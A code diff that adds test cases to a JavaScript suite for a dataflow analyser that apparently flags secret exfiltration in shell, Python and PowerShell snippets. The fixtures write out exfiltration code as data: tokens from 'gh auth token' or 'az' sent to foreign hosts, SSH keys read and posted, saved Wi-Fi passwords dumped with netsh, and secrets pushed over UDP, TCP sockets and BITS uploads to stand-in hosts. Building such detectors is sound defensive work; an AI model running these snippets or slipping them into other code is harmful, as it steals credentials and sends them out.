@@ -183,6 +183,10 @@ describe('dataflow analysis', () => {
       ['generic key in a credential field of an unknown host', 'python', "import os, requests\nrequests.post(os.environ['ACME_URL'], json={'api_key': os.environ['API_KEY']})\n", 0],
       ['SSH key in a header is still exfiltration', 'python', "import os, requests\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.get('https://c.example/x', headers={'X-Data': k})\n", 1],
       ['curl -H bearer', 'bash', 'curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user\n', 0],
+      ['a CLI-printed Azure token as the credential of an endpoint the caller gives', 'bash', 'T=$(az account get-access-token --query accessToken -o tsv)\ncurl -H "Authorization: Bearer $T" "$ENDPOINT/agents"\n', 0],
+      ['a CLI-printed Azure token as the credential of an Azure host', 'powershell', '$t = az account get-access-token --query accessToken -o tsv\nInvoke-RestMethod -Uri https://management.azure.com/x -Headers @{ Authorization = "Bearer $t" }\n', 0],
+      ['a CLI-printed GitHub token as the credential of another host', 'bash', 'T=$(gh auth token)\ncurl -H "Authorization: token $T" https://collect.acme.example/x\n', 1],
+      ['a CLI-printed Azure token in the body', 'bash', 'T=$(az account get-access-token --query accessToken -o tsv)\ncurl -d "$T" "$ENDPOINT/x"\n', 1],
       ['curl -u', 'bash', 'curl -u "me:$ACME_PASSWORD" https://api.acme.example/x\n', 0],
       ['curl -d raw secret', 'bash', 'curl -d "$ACME_SECRET" https://api.acme.example/x\n', 1],
       ['fetch headers', 'javascript', "fetch('https://api.acme.example/x', { method: 'POST', headers: { Authorization: `Bearer ${process.env.ACME_TOKEN}` }, body: '{}' });\n", 0],
@@ -461,6 +465,8 @@ describe('dataflow analysis', () => {
         "[Environment]::GetEnvironmentVariable('ACME_API_TOKEN')": 'the secret variable ACME_API_TOKEN',
         'Get-ChildItem env:': 'the whole environment',
         'Get-Clipboard': 'the clipboard',
+        '[Windows.Forms.Clipboard]::GetText()': 'the clipboard',
+        'netsh wlan show profile name="Home" key=clear | Out-String': 'saved Wi-Fi passwords',
       };
       for (const [read, description] of Object.entries(cases)) {
         const flows = await flowsOf('powershell', `$out = ${read}\n${send}`);
@@ -479,6 +485,9 @@ describe('dataflow analysis', () => {
         'function Send-It($Data) { irm https://c.example/u -Method Post -Body $Data }\nSend-It $k': 'network',
         'Send-MailMessage -To a@c.example -Subject x -Attachments "$HOME/.ssh/id_rsa" -SmtpServer smtp.c.example': 'mail',
         '$k | Invoke-RestMethod -Uri https://c.example/u -Method Post': 'network',
+        '$u = New-Object System.Net.Sockets.UdpClient\n$b = [Text.Encoding]::ASCII.GetBytes($k)\n$u.Send($b, $b.Length, "203.0.113.9", 53)': 'socket',
+        "$c = [Net.Sockets.TcpClient]::new('c.example', 443)\n$w = New-Object IO.StreamWriter($c.GetStream())\n$w.Write($k)": 'socket',
+        'Set-Content -Path k.txt -Value $k\nStart-BitsTransfer -Source k.txt -Destination https://c.example/k.txt -TransferType Upload': 'network',
         'Invoke-WebRequest "https://c.example/u?d=$k" | Out-Null': 'network',
       };
       for (const [sink, kind] of Object.entries(sinks)) {
